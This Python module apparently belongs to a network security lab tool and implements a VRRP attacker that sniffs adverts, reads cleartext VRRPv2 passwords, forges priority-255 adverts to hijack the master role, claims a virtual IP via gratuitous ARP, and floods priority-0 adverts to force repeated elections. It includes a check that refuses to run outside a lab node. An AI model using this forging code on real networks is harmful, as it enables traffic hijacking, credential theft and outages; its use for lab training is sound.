"""The lab's attacker: forged VRRP adverts, for the security scenarios. Lab only.

Run by vrrplab inside the `attacker` node (`python -m vrrplab.attack MODE ...`).
It refuses to run anywhere else: vrrplab marks its nodes' processes with
VRRPLAB_LAB_NODE, and a lab node has a network namespace of its own, never
the one of PID 1 (the host's, or the lab supervisor's private one).

Modes:
- rogue: sniff one real advert (learning the version and, for VRRPv2 PASS, the
  password sent in clear), then advertise the VRID with priority 255 every
  interval; with --claim-vip, also put the VIP on our interface and announce it.
- zero-storm: forge priority-0 adverts in the master's name, `--rate` per second,
  forcing the backups into elections over and over.
- sniff: print the first advert's password (what anyone on the LAN can read).

It reports on stdout as JSON lines (`sniffed` with the password read,
`forging`, `stopped` with the count sent); on SIGTERM it stops forging and
gives back a VIP it claimed.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import subprocess
import sys
import time


class NotInLab(SystemExit):
    pass


def ensure_inside_lab_node() -> None:
    if not os.environ.get("VRRPLAB_LAB_NODE"):
        raise NotInLab("vrrplab.attack runs only inside a vrrplab lab node "
                       "(VRRPLAB_LAB_NODE is not set): refusing")
    try:
        ours, init = os.readlink("/proc/self/ns/net"), os.readlink("/proc/1/ns/net")
    except OSError:  # cannot tell: assume the worst
        ours = init = None
    if ours is None or ours == init:
        raise NotInLab("vrrplab.attack: this is not a lab node's network namespace: refusing")


def sniff_advert(iface: str, vrid: int, timeout: float):
    from scapy.layers.inet import IP
    from scapy.layers.vrrp import VRRP, VRRPv3
    from scapy.sendrecv import sniff

    found = sniff(iface=iface, filter="ip proto 112", count=1, timeout=timeout,
                  lfilter=lambda p: (VRRP in p or VRRPv3 in p) and
                  (p[VRRPv3] if VRRPv3 in p else p[VRRP]).vrid == vrid and IP in p)
    if not found:
        raise SystemExit(f"no advert for VRID {vrid} seen on {iface} in {timeout:g} s")
    return found[0]


def password_of(pkt) -> str | None:
    from scapy.layers.vrrp import VRRP
    if VRRP not in pkt or pkt[VRRP].authtype != 1:
        return None
    raw = pkt[VRRP].auth1.to_bytes(4, "big") + pkt[VRRP].auth2.to_bytes(4, "big")
    return raw.rstrip(b"\0").decode(errors="replace")


def forge(template, src: str, priority: int):
    """An advert like the sniffed one, from `src`, with `priority` (scapy computes checksums)."""
    from scapy.layers.inet import IP
    from scapy.layers.vrrp import VRRP, VRRPv3

    layer = (template[VRRPv3] if VRRPv3 in template else template[VRRP]).copy()
    layer.priority = priority
    del layer.chksum
    return IP(src=src, dst="224.0.0.18", ttl=255) / layer


def claim_vip(iface: str, vip: str) -> None:
    """Take the VIP and tell the LAN (gratuitous ARP), as a master would."""
    from scapy.arch import get_if_hwaddr
    from scapy.layers.l2 import ARP, Ether
    from scapy.sendrecv import sendp

    subprocess.run(["ip", "addr", "add", vip, "dev", iface], check=False, timeout=10)
    ip, mac = vip.split("/")[0], get_if_hwaddr(iface)
    garp = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=mac, psrc=ip, pdst=ip)
    sendp(garp, iface=iface, count=3, inter=0.05, verbose=False)


def release_vip(iface: str, vip: str) -> None:
    """Give back a VIP we claimed, so the lab is as before once the attack stops."""
    subprocess.run(["ip", "addr", "del", vip, "dev", iface], check=False, timeout=10,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def say(event: str, **fields) -> None:
    print(json.dumps({"t": round(time.time(), 6), "event": event, **fields}), flush=True)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("mode", choices=("rogue", "zero-storm", "sniff"))
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--vrid", type=int, default=10)
    parser.add_argument("--interval", type=float, default=1.0, help="rogue: seconds between adverts")
    parser.add_argument("--rate", type=float, default=20.0, help="zero-storm: adverts per second")
    parser.add_argument("--spoof", help="zero-storm: the master's address to speak for")
    parser.add_argument("--claim-vip", help="rogue: also take this VIP (e.g. 192.168.1.1/24)")
    args = parser.parse_args(argv)
    ensure_inside_lab_node()

    from scapy.sendrecv import send

    running = True

    def stop(_signum, _frame):
        nonlocal running
        running = False

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    template = sniff_advert(args.iface, args.vrid, timeout=10)
    say("sniffed", src=template["IP"].src, password=password_of(template))
    if args.mode == "sniff" or not running:  # stopped while still listening
        return 0
    if args.mode == "rogue":
        from scapy.arch import get_if_addr
        src, priority, period = get_if_addr(args.iface), 255, args.interval
        if args.claim_vip:
            claim_vip(args.iface, args.claim_vip)
    else:
        src, priority, period = args.spoof or template["IP"].src, 0, 1 / args.rate
    packet = forge(template, src, priority)
    say("forging", src=src, priority=priority, period=period)
    sent = 0
    while running:
        send(packet, iface=args.iface, verbose=False)
        sent += 1
        time.sleep(period)
    if args.mode == "rogue" and args.claim_vip:
        release_vip(args.iface, args.claim_vip)
    say("stopped", sent=sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
